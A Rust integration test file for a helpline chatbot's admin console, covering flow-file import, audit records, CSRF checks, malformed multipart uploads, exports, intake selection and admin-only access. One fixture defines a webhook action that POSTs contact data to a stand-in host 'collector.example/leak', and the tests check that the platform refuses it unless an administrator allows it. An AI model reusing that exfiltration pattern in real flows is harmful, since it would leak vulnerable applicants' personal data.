//! The flows page: administrators import flow files (multipart, no JavaScript), refusals name the
//! node, outside calls only where an administrator allowed them (audited), imports are audited,
//! exports keep what the platform does not know (`_ui`), the intake chosen for the web channel
//! is what a new conversation starts, and nobody else gets in.

use safepassage_domain::{Event, Role};
use safepassage_server::flow_library::MAX_FILE;
use serde_json::Value;

use super::chat_api::new_session;
use super::console::{location, login, Session};
use super::TestServer;

const TINY: &str = "0b9ab1a4-8a42-4d3c-9c0e-1d6b7f7f1001";
const NODE: &str = "3f6d3d5e-4b4f-4a44-8f4e-1b2a3c4d5e6f";
const SHIPPED_INTAKE: &str = "e8c2a44f-53ef-4765-8954-372b74f063d0";

/// A one-node flow that greets and waits, with an editor's `_ui` and a field of some vendor's.
fn tiny_flow(name: &str, greeting: &str) -> String {
    format!(
        r#"{{"uuid": "{TINY}", "name": "{name}", "spec_version": "13.1.0", "language": "eng", "type": "messaging",
  "revision": 7, "vendor_field": {{"kept": [1, 2, 3]}},
  "_ui": {{"nodes": {{"{NODE}": {{"position": {{"left": 10, "top": 20}}, "type": "wait_for_response"}}}}}},
  "localization": {{"ukr": {{"5e0f1a2b-3c4d-4e5f-8a9b-0c1d2e3f4a5b": {{"text": ["Привіт від малого сценарію"]}}}}}},
  "nodes": [{{"uuid": "{NODE}",
    "actions": [{{"uuid": "5e0f1a2b-3c4d-4e5f-8a9b-0c1d2e3f4a5b", "type": "send_msg", "text": "{greeting}", "quick_replies": ["Yes", "No"]}}],
    "router": {{"type": "switch", "operand": "@input.text", "wait": {{"type": "msg"}},
      "categories": [{{"uuid": "7a1b2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d", "name": "Other", "exit_uuid": "a1b2c3d4-0000-4000-8000-000000000001"}}],
      "default_category_uuid": "7a1b2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d", "cases": []}},
    "exits": [{{"uuid": "a1b2c3d4-0000-4000-8000-000000000001"}}]}}]}}"#
    )
}

fn webhook_flow() -> String {
    tiny_flow("Hooked", "hi").replace(
        r#"{"uuid": "5e0f1a2b-3c4d-4e5f-8a9b-0c1d2e3f4a5b", "type": "send_msg", "text": "hi", "quick_replies": ["Yes", "No"]}"#,
        r#"{"uuid": "9d8c7b6a-5f4e-4d3c-8b2a-1f0e9d8c7b6a", "type": "call_webhook", "method": "POST", "url": "https://collector.example/leak", "headers": {}, "body": "@contact", "result_name": "r"}"#,
    )
}

const BOUNDARY: &str = "----safepassage-test-7f3a";

/// The import form's body as a browser sends it: multipart, the CSRF field first.
fn form_body(csrf: &str, file: &str) -> String {
    format!(
        "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"csrf\"\r\n\r\n{csrf}\r\n\
         --{BOUNDARY}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"flows.json\"\r\n\
         Content-Type: application/json\r\n\r\n{file}\r\n--{BOUNDARY}--\r\n"
    )
}

/// The import form's body with boxes ticked: one `allow` part for each.
fn form_body_allowing(csrf: &str, file: &str, allow: &[&str]) -> String {
    let whole = form_body(csrf, file);
    let boxes: String = allow
        .iter()
        .map(|a| format!("--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"allow\"\r\n\r\n{a}\r\n"))
        .collect();
    let end = format!("--{BOUNDARY}--\r\n");
    format!("{}{boxes}{end}", whole.strip_suffix(&end).unwrap())
}

/// Uploads `file` as the import form does with the boxes of `allow` ticked.
pub(super) async fn upload_allowing(session: &Session, file: &str, allow: &[&str]) -> reqwest::Response {
    let body = form_body_allowing(&session.csrf, file, allow);
    post_import(session, &format!("multipart/form-data; boundary={BOUNDARY}"), body).await
}

/// Posts `body` to the import path with `content_type`, as the session's browser would.
async fn post_import(session: &Session, content_type: &str, body: impl Into<reqwest::Body>) -> reqwest::Response {
    let request = session.client.post(session.url("/console/flows/import")).header("content-type", content_type);
    request.body(body).send().await.unwrap()
}

/// Uploads `file` as the import form does.
async fn upload(session: &Session, csrf: &str, file: &str) -> reqwest::Response {
    post_import(session, &format!("multipart/form-data; boundary={BOUNDARY}"), form_body(csrf, file)).await
}

pub(super) async fn admin(server: &TestServer) -> (safepassage_domain::UserId, Session) {
    let staff = server.staff(Role::Admin, "flow-admin").await;
    let session = login(server, &staff).await;
    (staff.id, session)
}

async fn flows_imported(server: &TestServer) -> Vec<Event> {
    let events = server.state.store.events(0, 10_000).await.unwrap();
    events.into_iter().map(|e| e.event).filter(|e| matches!(e, Event::FlowsImported { .. })).collect()
}

#[tokio::test]
async fn an_import_is_listed_audited_and_outlined() {
    let server = TestServer::start().await;
    let (admin_id, session) = admin(&server).await;
    let page = session.page("/console/flows").await;
    assert!(page.contains("href=\"/console/flows\""), "the navigation links the page");
    assert!(page.contains(">Intake</a>") && page.contains(">Registration</a>"), "the shipped flows are listed");
    assert!(page.contains("enctype=\"multipart/form-data\""));

    let file = tiny_flow("Tiny", "Hello from the tiny flow");
    let response = upload(&session, &session.csrf, &file).await;
    assert_eq!(response.status(), 303);
    assert_eq!(location(&response), "/console/flows?notice=flows-imported");

    let page = session.page("/console/flows?notice=flows-imported&lang=en").await;
    assert!(page.contains("id=\"notice\""), "{page}");
    assert!(page.contains(&format!("data-uuid=\"{TINY}\"")));
    assert!(page.contains(">Tiny</a>"));
    assert!(page.contains("13.1.0") && page.contains("eng, ukr"));
    assert!(page.contains("class=\"import-item\"") && page.contains("flow-admin"), "the import names who");

    // In the audit chain, by the admin, with the file's digest and its flow.
    let imported = flows_imported(&server).await;
    let digest = {
        use sha2::Digest;
        hex::encode(sha2::Sha256::digest(file.as_bytes()))
    };
    assert!(
        matches!(&imported[..], [Event::FlowsImported { by, digest: d, flows, .. }]
            if *by == admin_id && *d == digest && flows.len() == 1 && flows[0].to_string() == TINY),
        "{imported:?}"
    );
    let mine = server.state.store.timeline(admin_id.0, 100).await.unwrap();
    assert!(mine.iter().any(|e| e.event.kind() == "flows_imported"));

    // The outline, in the base language and in a translation.
    let outline = session.page(&format!("/console/flows/{TINY}")).await;
    assert!(outline.contains(NODE) && outline.contains("Hello from the tiny flow"), "{outline}");
    assert!(outline.contains("<li>Yes</li>") && outline.contains("Other"));
    let ukr = session.page(&format!("/console/flows/{TINY}?language=ukr")).await;
    assert!(ukr.contains("Привіт від малого сценарію"));
    let shipped = session.page(&format!("/console/flows/{SHIPPED_INTAKE}?language=ukr")).await;
    assert!(shipped.contains("Вітаємо. Це служба допомоги."), "the shipped intake in Ukrainian");
    assert!(shipped.contains("has_any_word") || shipped.contains("has_"), "router cases are shown");
    assert_eq!(session.get("/console/flows/0b9ab1a4-8a42-4d3c-9c0e-000000000000").await.status(), 404);
    assert_eq!(session.get("/console/flows/not-a-uuid").await.status(), 404);
}

#[tokio::test]
async fn outside_calls_and_broken_files_are_refused_naming_the_place() {
    let server = TestServer::start().await;
    let (_, session) = admin(&server).await;

    let response = upload(&session, &session.csrf, &webhook_flow()).await;
    assert_eq!(response.status(), 422);
    let page = response.text().await.unwrap();
    assert!(page.contains("id=\"import-refused\""), "{page}");
    assert!(page.contains(&format!("node {NODE}")), "the node is named: {page}");
    assert!(page.contains("call_webhook") && page.contains("Hooked"), "{page}");

    for broken in ["{\"uuid\": ", "[]", "{\"version\": \"13\", \"flows\": []}"] {
        let response = upload(&session, &session.csrf, broken).await;
        assert_eq!(response.status(), 422, "{broken}");
    }
    let response = upload(&session, &session.csrf, "").await;
    assert_eq!(response.status(), 422, "no file chosen");
    // Renaming the only flow named Intake would leave the bot without one.
    let renamed = tiny_flow("Renamed", "hi").replace(TINY, SHIPPED_INTAKE);
    let response = upload(&session, &session.csrf, &renamed).await;
    assert_eq!(response.status(), 422);
    assert!(response.text().await.unwrap().contains("no intake flow"));
    assert!(flows_imported(&server).await.is_empty(), "nothing refused is stored");
    assert!(server.state.store.flow_imports().await.unwrap().is_empty());

    // A wrong token is refused before anything is read into the library.
    let response = upload(&session, "0000", &tiny_flow("Tiny", "hi")).await;
    assert_eq!(response.status(), 403);
    // Too large a body is a clear 4xx, not a crash.
    let huge = format!("{{\"pad\": \"{}\"}}", "x".repeat(3 * 1024 * 1024));
    let response = upload(&session, &session.csrf, &huge).await;
    assert!(response.status().is_client_error(), "{}", response.status());
    assert!(server.state.store.flow_imports().await.unwrap().is_empty());
}

#[tokio::test]
async fn an_administrator_allows_a_webhook_for_one_file_and_the_audit_says_so() {
    let server = TestServer::start().await;
    let (admin_id, session) = admin(&server).await;
    let page = session.page("/console/flows?lang=en").await;
    assert!(page.contains(r#"name="allow" type="checkbox" value="call_webhook""#), "{page}");
    assert!(page.contains("the bot will send applicants&#39; data"), "a plain warning: {page}");
    let page = session.page("/console/flows?lang=uk").await;
    assert!(page.contains("бот надсилатиме дані заявників"), "{page}");

    // Not ticked: refused as before, naming flow, node and action.
    let response = upload_allowing(&session, &webhook_flow(), &[]).await;
    assert_eq!(response.status(), 422);
    let refusal = response.text().await.unwrap();
    assert!(refusal.contains("flow &#39;Hooked&#39;") && refusal.contains(&format!("node {NODE}")), "{refusal}");
    assert!(refusal.contains("action 9d8c7b6a-5f4e-4d3c-8b2a-1f0e9d8c7b6a (call_webhook)"), "{refusal}");
    // A type the platform cannot run cannot be allowed; a made-up one neither.
    for (asked, says) in [("send_email", "cannot be allowed"), ("leak_everything", "not an outside action type")] {
        let response = upload_allowing(&session, &webhook_flow(), &["call_webhook", asked]).await;
        assert_eq!(response.status(), 422, "{asked}");
        assert!(response.text().await.unwrap().contains(says), "{asked}");
    }
    assert!(flows_imported(&server).await.is_empty(), "nothing refused is stored");

    let response = upload_allowing(&session, &webhook_flow(), &["call_webhook"]).await;
    assert_eq!(response.status(), 303);
    let imported = flows_imported(&server).await;
    assert!(
        matches!(&imported[..], [Event::FlowsImported { by, allowed_outside, flows, .. }]
            if *by == admin_id && allowed_outside == &["call_webhook"] && flows[0].to_string() == TINY),
        "{imported:?}"
    );
    assert_eq!(server.state.store.flow_imports().await.unwrap()[0].allowed_outside, ["call_webhook"]);
    assert!(matches!(server.state.store.verify_chain().await.unwrap(), safepassage_store::ChainReport::Intact { .. }));
    let page = session.page("/console/flows?lang=en").await;
    assert!(page.contains(">Hooked</a>") && !page.contains("does not load"), "{page}");
    assert!(page.contains(r#"<td class="allowed">call_webhook</td>"#), "the list says what was allowed");

    // The allowance belongs to that file: the same flow again without it is refused.
    assert_eq!(upload_allowing(&session, &webhook_flow(), &[]).await.status(), 422);
    // A file with no outside call may still be imported with the box ticked; it records it.
    assert_eq!(upload_allowing(&session, &tiny_flow("Tiny", "hi"), &["call_webhook"]).await.status(), 303);
    assert_eq!(flows_imported(&server).await.len(), 2);
}

#[tokio::test]
async fn a_flow_entering_one_the_library_lacks_is_refused_naming_both() {
    let server = TestServer::start().await;
    let (_, session) = admin(&server).await;
    let other = "0b9ab1a4-8a42-4d3c-9c0e-1d6b7f7f1002";
    let enters = |uuid: &str| {
        tiny_flow("Caller", "hi").replace(
            r#"{"uuid": "5e0f1a2b-3c4d-4e5f-8a9b-0c1d2e3f4a5b", "type": "send_msg", "text": "hi", "quick_replies": ["Yes", "No"]}"#,
            &format!(
                r#"{{"uuid": "6e0f1a2b-3c4d-4e5f-8a9b-0c1d2e3f4a5b", "type": "enter_flow", "flow": {{"uuid": "{uuid}", "name": "Elsewhere"}}}}"#
            ),
        )
    };
    let response = upload(&session, &session.csrf, &enters(other)).await;
    assert_eq!(response.status(), 422);
    let refusal = response.text().await.unwrap();
    assert!(refusal.contains("flow &#39;Caller&#39;") && refusal.contains(&format!("node {NODE}")), "{refusal}");
    assert!(refusal.contains("action 6e0f1a2b-3c4d-4e5f-8a9b-0c1d2e3f4a5b (enter_flow)"), "{refusal}");
    assert!(refusal.contains(&format!("enters flow &#39;Elsewhere&#39; ({other})")), "{refusal}");
    assert!(flows_imported(&server).await.is_empty());

    // Shipped, or imported before: found.
    assert_eq!(upload(&session, &session.csrf, &enters(SHIPPED_INTAKE)).await.status(), 303);
    let elsewhere = tiny_flow("Elsewhere", "hi").replace(TINY, other);
    assert_eq!(upload(&session, &session.csrf, &elsewhere).await.status(), 303);
    assert_eq!(upload(&session, &session.csrf, &enters(other)).await.status(), 303);
}

#[tokio::test]
async fn malformed_uploads_are_a_clear_400_and_nothing_is_imported() {
    let server = TestServer::start().await;
    let (_, session) = admin(&server).await;
    let multipart = format!("multipart/form-data; boundary={BOUNDARY}");
    let csrf = &session.csrf;
    let part = |name: &str, value: &str| {
        format!("--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n")
    };
    let file = tiny_flow("Tiny", "hi");

    // Cut anywhere before its closing delimiter, the body is not a form.
    let whole = form_body(csrf, &file);
    for cut in 0..whole.len() - 2 {
        let response = post_import(&session, &multipart, whole.as_bytes()[..cut].to_vec()).await;
        assert_eq!(response.status(), 400, "cut at {cut}");
    }
    let refused = [
        ("no end of headers", format!("--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"csrf\"")),
        ("no delimiter at all", "nothing".to_owned()),
        ("a field not in the form", format!("{}{}--{BOUNDARY}--\r\n", part("csrf", csrf), part("extra", "x"))),
        ("the token twice", format!("{}{}--{BOUNDARY}--\r\n", part("csrf", csrf), part("csrf", csrf))),
        (
            "the file twice",
            format!("{}{}{}--{BOUNDARY}--\r\n", part("csrf", csrf), part("file", &file), part("file", &file)),
        ),
        ("a token too long to be one", format!("{}--{BOUNDARY}--\r\n", part("csrf", &"a".repeat(4096)))),
        (
            "a part without a name",
            format!("--{BOUNDARY}\r\nContent-Disposition: form-data\r\n\r\nx\r\n--{BOUNDARY}--\r\n"),
        ),
        ("many parts", format!("{}--{BOUNDARY}--\r\n", part("csrf", csrf).repeat(40))),
    ];
    for (what, body) in refused {
        let response = post_import(&session, &multipart, body).await;
        assert_eq!(response.status(), 400, "{what}");
        let page = response.text().await.unwrap();
        assert!(page.contains("id=\"request-id\""), "{what}: an error page with the request id: {page}");
    }
    // Not multipart as it says (no boundary, another kind): no token is found in it.
    for content_type in ["multipart/form-data", "multipart/form-data; boundary=\"\"", "multipart/mixed; boundary=x"] {
        let response = post_import(&session, content_type, whole.clone()).await;
        assert_eq!(response.status(), 403, "{content_type}");
    }
    // Without a session cookie the upload is refused before its body is read: read, a body past
    // the limit would be a 400.
    let huge = form_body(csrf, &"x".repeat(3 * 1024 * 1024));
    let response = super::client()
        .post(server.url("/console/flows/import"))
        .header("content-type", &multipart)
        .body(huge)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 403);
    assert!(server.state.store.flow_imports().await.unwrap().is_empty());

    // The parts in another order, a part with extra headers: still the form.
    let reordered = format!(
        "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.json\"\r\n\
         Content-Type: application/json\r\nX-Other: 1\r\n\r\n{file}\r\n{}--{BOUNDARY}--\r\n",
        part("csrf", csrf)
    );
    assert_eq!(post_import(&session, &multipart, reordered).await.status(), 303);
    assert_eq!(server.state.store.flow_imports().await.unwrap().len(), 1);

    // A file just past the largest the library takes, in a body within the limit: the page says so.
    let response = upload(&session, csrf, &" ".repeat(MAX_FILE).replacen(' ', "{}", 1)).await;
    assert_eq!(response.status(), 422);
    assert!(response.text().await.unwrap().contains(&format!("larger than {MAX_FILE} bytes")));
}

#[tokio::test]
async fn exports_keep_what_was_imported() {
    let server = TestServer::start().await;
    let (_, session) = admin(&server).await;
    let file = tiny_flow("Tiny", "Hello");
    assert_eq!(upload(&session, &session.csrf, &file).await.status(), 303);
    let original: Value = serde_json::from_str(&file).unwrap();

    let response = session.get(&format!("/console/flows/{TINY}/export")).await;
    assert_eq!(response.status(), 200);
    let disposition = response.headers()["content-disposition"].to_str().unwrap().to_owned();
    assert!(disposition.starts_with("attachment;") && disposition.contains(TINY), "{disposition}");
    let exported: Value = response.json().await.unwrap();
    assert_eq!(exported["version"], "13");
    assert_eq!(exported["flows"][0], original, "the flow exactly as imported: _ui, vendor fields, spec version");

    let all: Value = session.get("/console/flows/export").await.json().await.unwrap();
    let flows = all["flows"].as_array().unwrap();
    assert_eq!(flows.len(), 7, "six shipped flows and the imported one");
    assert!(flows.contains(&original));
    assert!(all["topics"].as_array().is_some_and(|t| !t.is_empty()));

    // The file itself, byte for byte.
    let import = &server.state.store.flow_imports().await.unwrap()[0];
    let response = session.get(&format!("/console/flows/files/{}", import.id)).await;
    assert!(response.headers()["content-disposition"].to_str().unwrap().starts_with("attachment;"));
    assert_eq!(response.text().await.unwrap(), file);

    // Exported and imported again, the flow is the same.
    let again = serde_json::to_string(&exported).unwrap();
    assert_eq!(upload(&session, &session.csrf, &again).await.status(), 303);
    let back: Value = session.get(&format!("/console/flows/{TINY}/export")).await.json().await.unwrap();
    assert_eq!(back["flows"][0], original);
}

#[tokio::test]
async fn the_web_intake_decides_how_a_new_conversation_starts() {
    let server = TestServer::start().await;
    let (admin_id, session) = admin(&server).await;
    assert_eq!(upload(&session, &session.csrf, &tiny_flow("Tiny", "Tiny flow says hello")).await.status(), 303);

    // Imported but not chosen: conversations still start with the shipped intake.
    let (_, created) = new_session(&server, "en").await;
    assert!(created["messages"][0]["text"].as_str().unwrap().starts_with("Hello."), "{created}");

    let response = session.post("/console/flows/intake", &[("channel", "web"), ("flow", TINY)]).await;
    assert_eq!(response.status(), 303);
    assert_eq!(location(&response), "/console/flows?notice=intake-set");
    let (_, created) = new_session(&server, "en").await;
    assert_eq!(created["messages"][0]["text"], "Tiny flow says hello");
    let (_, created) = new_session(&server, "uk").await;
    assert_eq!(created["messages"][0]["text"], "Привіт від малого сценарію", "in the applicant's language");
    let page = session.page("/console/flows?lang=en").await;
    assert!(page.contains("<td class=\"current\">Tiny</td>"), "{page}");

    let events = server.state.store.timeline(admin_id.0, 100).await.unwrap();
    assert!(events.iter().any(|e| matches!(e.event, Event::IntakeFlowSet { flow: Some(_), by, .. } if by == admin_id)));

    // A voice channel needs a voice flow; a flow not in the library is not found.
    let response = session.post("/console/flows/intake", &[("channel", "voice"), ("flow", TINY)]).await;
    assert_eq!(response.status(), 422);
    let response = session
        .post("/console/flows/intake", &[("channel", "web"), ("flow", "0b9ab1a4-8a42-4d3c-9c0e-000000000000")])
        .await;
    assert_eq!(response.status(), 404);
    let response = session.post("/console/flows/intake", &[("channel", "pigeon"), ("flow", "default")]).await;
    assert_eq!(response.status(), 400);

    // Back to the default: the flow named Intake.
    let response = session.post("/console/flows/intake", &[("channel", "web"), ("flow", "default")]).await;
    assert_eq!(response.status(), 303);
    let (_, created) = new_session(&server, "en").await;
    assert!(created["messages"][0]["text"].as_str().unwrap().starts_with("Hello."), "{created}");

    // An imported flow named Intake wins over the shipped one by default.
    assert_eq!(upload(&session, &session.csrf, &tiny_flow("Intake", "Our own intake")).await.status(), 303);
    let (_, created) = new_session(&server, "en").await;
    assert_eq!(created["messages"][0]["text"], "Our own intake");
}

#[tokio::test]
async fn a_running_conversation_keeps_its_flow_across_imports() {
    let server = TestServer::start().await;
    let (_, session) = admin(&server).await;
    let (_, conversation, _) = server.state.start_web_chat(safepassage_domain::Language::En).await.unwrap();
    assert_eq!(upload(&session, &session.csrf, &tiny_flow("Intake", "Replacement")).await.status(), 303);
    // The conversation started in the shipped intake goes on in it.
    let conversation = server.state.store.conversation(conversation.id).await.unwrap().unwrap();
    let mine = server.state.applicant_says(&conversation, "English").await.unwrap();
    let after = server.state.store.messages(conversation.id, mine.seq, 10).await.unwrap();
    assert!(!after.is_empty(), "the bot answered in the flow it started");
    assert!(after[0].body.text().unwrap().starts_with("Who are you"), "{after:?}");
}

#[tokio::test]
async fn only_administrators_enter_the_flows_pages() {
    let server = TestServer::start().await;
    let (_, admin_session) = admin(&server).await;
    for role in Role::ALL.iter().filter(|r| **r != Role::Admin) {
        let staff = server.staff(*role, &format!("flows-{role}")).await;
        let session = login(&server, &staff).await;
        let home = session.page("/console").await;
        assert!(!home.contains("href=\"/console/flows\""), "{role} sees no link");
        for path in [
            "/console/flows".to_owned(),
            "/console/flows/export".to_owned(),
            format!("/console/flows/{SHIPPED_INTAKE}"),
            format!("/console/flows/{SHIPPED_INTAKE}/export"),
        ] {
            assert_eq!(session.get(&path).await.status(), 403, "{role} GET {path}");
        }
        let response = upload(&session, &session.csrf, &tiny_flow("Tiny", "hi")).await;
        assert_eq!(response.status(), 403, "{role} import");
        let response = session.post("/console/flows/intake", &[("channel", "web"), ("flow", "default")]).await;
        assert_eq!(response.status(), 403, "{role} intake");
    }
    assert!(server.state.store.flow_imports().await.unwrap().is_empty());
    assert!(admin_session.page("/console").await.contains("href=\"/console/flows\""));
    // Without a session, the login page.
    let response = super::client().get(server.url("/console/flows")).send().await.unwrap();
    assert_eq!(location(&response), "/console/login");
}
